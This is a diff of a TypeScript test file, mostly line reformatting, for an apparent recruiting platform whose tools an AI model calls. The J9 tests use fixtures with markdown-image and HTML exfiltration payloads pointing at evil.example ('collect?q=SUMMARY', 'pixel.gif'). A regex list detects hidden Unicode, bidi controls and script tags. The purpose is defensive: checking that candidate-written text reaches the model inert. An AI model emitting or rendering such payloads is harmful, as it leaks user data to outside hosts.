@@ -35,7 +35,19 @@ import { storeUpload } from '../../modules/documents/uploads.ts'
 import { textToSend } from '../../modules/outbox/index.ts'
 import { outbox } from '../../modules/outbox/table.ts'
 import { makePdf } from '../fixtures/resumes.ts'
-import { callOn, clock, newPersonWithToken, newVendor, newWorkspace, plain, serveApp, sharedDatabase, testDeps, unique, type TestWorkspace } from '../helpers.ts'
+import {
+	callOn,
+	clock,
+	newPersonWithToken,
+	newVendor,
+	newWorkspace,
+	plain,
+	serveApp,
+	sharedDatabase,
+	testDeps,
+	unique,
+	type TestWorkspace,
+} from '../helpers.ts'
 import { portalApp } from '../portal.ts'
 import { closeClients, everyRole, onTeam, type McpPerson, type TestRole } from '../sdk.ts'
 import { newApplication, newCandidate, newSubmissionVendor, newVendorJob, samplePng } from '../staffing-fixtures.ts'
@@ -110,7 +122,10 @@ describe('J8 messaging a candidate cannot be turned into spam', () => {
 		expect(refused[0]!.text).toContain('nothing was sent')
 
 		const deps = await testDeps()
-		const mails = await deps.db.select().from(outbox).where(and(eq(outbox.workspaceId, w.ws.id), eq(outbox.to, c.email), eq(outbox.channel, 'email')))
+		const mails = await deps.db
+			.select()
+			.from(outbox)
+			.where(and(eq(outbox.workspaceId, w.ws.id), eq(outbox.to, c.email), eq(outbox.channel, 'email')))
 		expect(mails).toHaveLength(3)
 		const [rows] = await deps.db.select({ n: count() }).from(documentRequests).where(eq(documentRequests.candidateId, c.id))
 		expect(rows!.n).toBe(3)
@@ -187,7 +202,15 @@ function expectInert(whole: string) {
 
 /** Pieces of text that could render, fetch or hide something (what expectInert forbids, and bold/HTML/auto-links), as found. */
 function activePieces(whole: string): string[] {
-	const active = [/[\u{e0000}-\u{e007f}]/u, /[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u0007\u001b]/, /!\[[^\]]*\]/, /\]\(https?:[^)]*\)/, /<\/?(a|b|img|script)\b[^>]*>/i, /<(https?|mailto):[^>]*>/, /onerror|pixel\.gif|collect\?q=/]
+	const active = [
+		/[\u{e0000}-\u{e007f}]/u,
+		/[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u0007\u001b]/,
+		/!\[[^\]]*\]/,
+		/\]\(https?:[^)]*\)/,
+		/<\/?(a|b|img|script)\b[^>]*>/i,
+		/<(https?|mailto):[^>]*>/,
+		/onerror|pixel\.gif|collect\?q=/,
+	]
 	return active.flatMap((pattern) => whole.match(pattern)?.[0] ?? [])
 }
 
@@ -216,7 +239,10 @@ async function sideEffects() {
 async function inboundMail(raw: string) {
 	const { app } = await portalApp({ INBOUND_MAIL_SECRET: INBOUND_SECRET })
 	const timestamp = Math.floor(Date.now() / 1000)
-	return callOn(app, 'POST', '/api/inbox/inbound', { raw, headers: { 'content-type': 'message/rfc822', 'x-inbound-timestamp': String(timestamp), 'x-inbound-signature': signWebhook(INBOUND_SECRET, timestamp, raw) } })
+	return callOn(app, 'POST', '/api/inbox/inbound', {
+		raw,
+		headers: { 'content-type': 'message/rfc822', 'x-inbound-timestamp': String(timestamp), 'x-inbound-signature': signWebhook(INBOUND_SECRET, timestamp, raw) },
+	})
 }
 
 /** Publishes a job as a vendor through the real REST API; the job's id in the portal and its careers address. */
@@ -224,10 +250,17 @@ async function publishJob(body: Record<string, unknown>) {
 	const deps = await testDeps()
 	const { apiKey } = await newVendor(w.ws, `Vendor ${unique()}`, deps)
 	const vendorJobId = (body.vendorJobId as string | undefined) ?? unique('REQ-')
-	const res = await fetch(`${w.url}/api/v1/jobs`, { method: 'POST', headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' }, body: JSON.stringify({ ...body, vendorJobId }) })
+	const res = await fetch(`${w.url}/api/v1/jobs`, {
+		method: 'POST',
+		headers: { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' },
+		body: JSON.stringify({ ...body, vendorJobId }),
+	})
 	expect(res.status, await res.clone().text()).toBe(201)
 	const { job } = (await res.json()) as { job: { url: string } }
-	const [row] = await deps.db.select({ id: jobs.id }).from(jobs).where(and(eq(jobs.workspaceId, w.ws.id), eq(jobs.vendorJobId, vendorJobId)))
+	const [row] = await deps.db
+		.select({ id: jobs.id })
+		.from(jobs)
+		.where(and(eq(jobs.workspaceId, w.ws.id), eq(jobs.vendorJobId, vendorJobId)))
 	return { id: row!.id, url: job.url }
 }
 
@@ -238,11 +271,19 @@ async function applyOnCareersSite(job: { id: string; url: string }, o: { name: s
 	const csrf = /name="csrf" value="([^"]+)"/.exec(await page.text())?.[1] ?? ''
 	const form = new FormData()
 	for (const [k, v] of Object.entries({ csrf, name: o.name, email: `${unique('a')}@example.test`, phone: '+1 512 555 0100' })) form.set(k, v)
-	form.set('resume', new File([Buffer.from(makePdf(['Senior engineer', 'Java, Spring, Kubernetes, C#, C++, Node.js', '10 years of experience']))], o.fileName, { type: 'application/pdf' }))
+	form.set(
+		'resume',
+		new File([Buffer.from(makePdf(['Senior engineer', 'Java, Spring, Kubernetes, C#, C++, Node.js', '10 years of experience']))], o.fileName, {
+			type: 'application/pdf',
+		}),
+	)
 	const res = await fetch(`${job.url}/apply`, { method: 'POST', body: form, headers: { cookie } })
 	expect(res.status).toBe(200)
 	const deps = await testDeps()
-	const [row] = await deps.db.select({ candidateId: applications.candidateId, applicationId: applications.id }).from(applications).where(eq(applications.jobId, job.id))
+	const [row] = await deps.db
+		.select({ candidateId: applications.candidateId, applicationId: applications.id })
+		.from(applications)
+		.where(eq(applications.jobId, job.id))
 	return row!
 }
 
@@ -252,7 +293,15 @@ describe('J9 text written by candidates and colleagues reaches the model as iner
 		const c = await candidate({ name: 'Eve Mallory' })
 		const resume = `${CORPUS}\n\n${'Experienced Java developer. '.repeat(40_000)}` // about 1.1 MB
 		await deps.db.update(candidates).set({ resumeText: resume }).where(eq(candidates.id, c.id))
-		await deps.db.insert(notes).values({ id: `note_${unique()}`, workspaceId: w.ws.id, candidateId: c.id, applicationId: c.applicationId, authorUserId: w.people.recruiter.userId, body: CORPUS, visibility: 'shared' })
+		await deps.db.insert(notes).values({
+			id: `note_${unique()}`,
+			workspaceId: w.ws.id,
+			candidateId: c.id,
+			applicationId: c.applicationId,
+			authorUserId: w.people.recruiter.userId,
+			body: CORPUS,
+			visibility: 'shared',
+		})
 		const before = await sideEffects()
 
 		const profile = await ok(w.people.owner, 'get_candidate', { candidateId: c.id })
@@ -319,7 +368,8 @@ describe('J9 text written by candidates and colleagues reaches the model as iner
 			employment: '![e](https://evil.example/e) C2C',
 			interview: '<https://evil.example/iv> [Zoom](https://evil.example/z)',
 			summary: 'Great role ![s](https://evil.example/collect?q=SUMMARY) <img src=https://evil.example/pixel.gif>',
-			description: '<p>Build things.</p><p>&lt;img src="https://evil.example/pixel.gif"&gt; ![x](https://evil.example/collect?q=CHAT) &lt;https://evil.example/auto&gt;</p>',
+			description:
+				'<p>Build things.</p><p>&lt;img src="https://evil.example/pixel.gif"&gt; ![x](https://evil.example/collect?q=CHAT) &lt;https://evil.example/auto&gt;</p>',
 			mustHave: ['![m](https://evil.example/m.png) Java', '[Spring](https://evil.example/s)', '<img src=https://evil.example/k.gif>Kubernetes'],
 			niceToHave: ['<mailto:hr@evil.example>'],
 		})
@@ -368,8 +418,10 @@ describe('J9 text written by candidates and colleagues reaches the model as iner
 		shows('get_job', 'Quokkaflow Dev', 'Build things.', 'Kubernetes', 'Great role')
 		shows('search (job)', 'Quokkaflow Dev')
 		shows('search (candidate)', 'Zyxwvut lead', 'Eve')
-		for (const name of ['list_candidates', 'get_candidate', 'list_applications', 'get_application', 'get_job_applicants', 'list_bench', 'get_review_queue']) shows(name, 'Eve [image: n] m (https://evil.example/m)')
-		for (const name of ['list_applications', 'get_application', 'get_job_applicants', 'list_bench', 'get_review_queue', 'get_analytics_summary']) shows(name, 'Quokkaflow Dev [image: t]')
+		for (const name of ['list_candidates', 'get_candidate', 'list_applications', 'get_application', 'get_job_applicants', 'list_bench', 'get_review_queue'])
+			shows(name, 'Eve [image: n] m (https://evil.example/m)')
+		for (const name of ['list_applications', 'get_application', 'get_job_applicants', 'list_bench', 'get_review_queue', 'get_analytics_summary'])
+			shows(name, 'Quokkaflow Dev [image: t]')
 		shows('get_candidate', 'Zyxwvut lead', 'Rust', 'cv [image: f].pdf')
 		for (const name of ['get_job_bench', 'check_vendor_submission']) shows(name, 'Quokkaflow Dev [image: t]')
 		for (const name of ['get_job_bench', 'list_candidate_documents', 'check_vendor_submission']) shows(name, 'Eve [image: n]')
@@ -421,7 +473,16 @@ describe('J9 text written by candidates and colleagues reaches the model as iner
 		expect(listed).toHaveLength(1)
 		expect(listed[0]).toMatchObject({ title, location: 'São Paulo, Brazil', department: 'R&D' })
 		const j = (await ok(recruiter, 'get_job', { jobId: job.id })).words.job
-		expect(j).toMatchObject({ title, location: 'São Paulo, Brazil', department: 'R&D', employment: '12-month W2 contract', interview: 'Video call [1 hour], then on-site', summary: 'Build C# & C++ services for R&D; 100% remote.', requirements, niceToHave: ['Objective-C', 'F#'] })
+		expect(j).toMatchObject({
+			title,
+			location: 'São Paulo, Brazil',
+			department: 'R&D',
+			employment: '12-month W2 contract',
+			interview: 'Video call [1 hour], then on-site',
+			summary: 'Build C# & C++ services for R&D; 100% remote.',
+			requirements,
+			niceToHave: ['Objective-C', 'F#'],
+		})
 		expect(j.description).toBe('Work on C# and C++ in our R&D team.\nNode.js <3')
 		const jobHit = (await ok(recruiter, 'search', { q: 'Pangolinworks' })).words.results.find((r: any) => r.id === job.id)
 		expect(jobHit.title).toBe(title)
@@ -465,17 +526,24 @@ describe('J10 document tools describe documents, never hand them out', () => {
 		const c = await candidate({ name: 'Mei Chen', workAuthorization: 'GC' }, w)
 		const recruiter = w.people.recruiter
 		const requested = await ok(recruiter, 'request_candidate_documents', { candidateId: c.id, applicationId: c.applicationId, items: ['dl', 'workAuth'] })
-		const [mail] = await deps.db.select().from(outbox).where(and(eq(outbox.relatedId, requested.data.request.id), eq(outbox.channel, 'email')))
+		const [mail] = await deps.db
+			.select()
+			.from(outbox)
+			.where(and(eq(outbox.relatedId, requested.data.request.id), eq(outbox.channel, 'email')))
 		const token = (await textToSend(deps.secret, mail!)).match(/\/upload\/(bl_ul_[0-9A-Za-z]+)/)![1]!
 		const files = { dl: samplePdf('Driver license of Mei Chen'), workAuth: samplePng(32, 32) }
 		await storeUpload(deps, token, 'dl', { name: 'license.pdf', bytes: files.dl })
 		await storeUpload(deps, token, 'workAuth', { name: 'ead.png', bytes: files.workAuth })
 
 		const answers: { name: string; answer: { text: string; data: unknown } }[] = [{ name: 'request_candidate_documents', answer: requested }]
-		const read = async (person: McpPerson, name: string, args: Record<string, unknown>) => answers.push({ name: `${name} (${person.email})`, answer: await ok(person, name, args) })
+		const read = async (person: McpPerson, name: string, args: Record<string, unknown>) =>
+			answers.push({ name: `${name} (${person.email})`, answer: await ok(person, name, args) })
 		await read(recruiter, 'list_candidate_documents', { candidateId: c.id })
 		await read(recruiter, 'check_vendor_submission', { applicationId: c.applicationId })
-		answers.push({ name: 'submit_to_vendor', answer: await ok(recruiter, 'submit_to_vendor', { applicationId: c.applicationId, documents: ['dl', 'workAuth'], note: 'Strong profile' }) })
+		answers.push({
+			name: 'submit_to_vendor',
+			answer: await ok(recruiter, 'submit_to_vendor', { applicationId: c.applicationId, documents: ['dl', 'workAuth'], note: 'Strong profile' }),
+		})
 		await read(recruiter, 'check_vendor_submission', { applicationId: c.applicationId })
 		for (const person of [w.people.owner, recruiter, w.people.hiring_manager]) {
 			await read(person, 'get_application', { applicationId: c.applicationId })
@@ -485,7 +553,8 @@ describe('J10 document tools describe documents, never hand them out', () => {
 		}
 		const threads = await ok(recruiter, 'list_inbox_threads', {})
 		answers.push({ name: 'list_inbox_threads', answer: threads })
-		for (const thread of threads.data.threads.filter((t: any) => t.counterpart.id === c.id || t.counterpart.id === w.vendorId)) await read(recruiter, 'get_inbox_thread', { threadId: thread.id })
+		for (const thread of threads.data.threads.filter((t: any) => t.counterpart.id === c.id || t.counterpart.id === w.vendorId))
+			await read(recruiter, 'get_inbox_thread', { threadId: thread.id })
 		await read(recruiter, 'list_todos', { candidateId: c.id })
 		await read(recruiter, 'get_review_queue', {})
 		await read(recruiter, 'get_vendor', { vendorId: w.vendorId })
@@ -546,7 +615,12 @@ const probeModule = defineModule({
 			output: t.Object({ items: t.Array(t.Object({ n: t.Integer(), body: t.Any() })) }),
 			readOnly: true,
 			permission: 'probe:use',
-			run: async () => ({ items: Array.from({ length: 300 }, (_, n) => ({ n, body: untrusted(`Answer ${n}: ${'I led the migration to Kubernetes. '.repeat(300)}`, 'candidate', 8000) })) }),
+			run: async () => ({
+				items: Array.from({ length: 300 }, (_, n) => ({
+					n,
+					body: untrusted(`Answer ${n}: ${'I led the migration to Kubernetes. '.repeat(300)}`, 'candidate', 8000),
+				})),
+			}),
 		}),
 		defineTool({
 			name: 'probe_huge_list',
@@ -566,13 +640,34 @@ describe('J11 each tools/call is bounded in time and size', () => {
 	let token: string
 	let rpcId = 1
 	const callTool = async (name: string, args: Record<string, unknown> = {}) => {
-		const res = await callOn(app, 'POST', '/api/mcp', { key: token, body: { jsonrpc: '2.0', id: rpcId++, method: 'tools/call', params: { name, arguments: args } }, headers: MCP_HEADERS })
-		return { status: res.status, bytes: Buffer.byteLength(res.text), result: messageOf(res.text)?.result as { isError?: boolean; content: { text: string }[]; structuredContent?: any } }
+		const res = await callOn(app, 'POST', '/api/mcp', {
+			key: token,
+			body: { jsonrpc: '2.0', id: rpcId++, method: 'tools/call', params: { name, arguments: args } },
+			headers: MCP_HEADERS,
+		})
+		return {
+			status: res.status,
+			bytes: Buffer.byteLength(res.text),
+			result: messageOf(res.text)?.result as { isError?: boolean; content: { text: string }[]; structuredContent?: any },
+		}
 	}
 
 	beforeAll(async () => {
-		const config = loadConfig({ ...process.env, BASE_URL: 'http://localhost:3000', RATE_LIMIT_PER_MINUTE: '100000', REDIS_URL: '', MCP_TOOL_TIMEOUT: '1', HTTP_IDLE_TIMEOUT: '30' })
-		const deps = await createDeps({ config, log: createLogger('error'), database: await sharedDatabase(), moduleList: [...modules, probeModule], now: clock.now })
+		const config = loadConfig({
+			...process.env,
+			BASE_URL: 'http://localhost:3000',
+			RATE_LIMIT_PER_MINUTE: '100000',
+			REDIS_URL: '',
+			MCP_TOOL_TIMEOUT: '1',
+			HTTP_IDLE_TIMEOUT: '30',
+		})
+		const deps = await createDeps({
+			config,
+			log: createLogger('error'),
+			database: await sharedDatabase(),
+			moduleList: [...modules, probeModule],
+			now: clock.now,
+		})
 		app = createApp(deps)
 		token = (await newPersonWithToken(await newWorkspace(), 'owner')).token
 	})
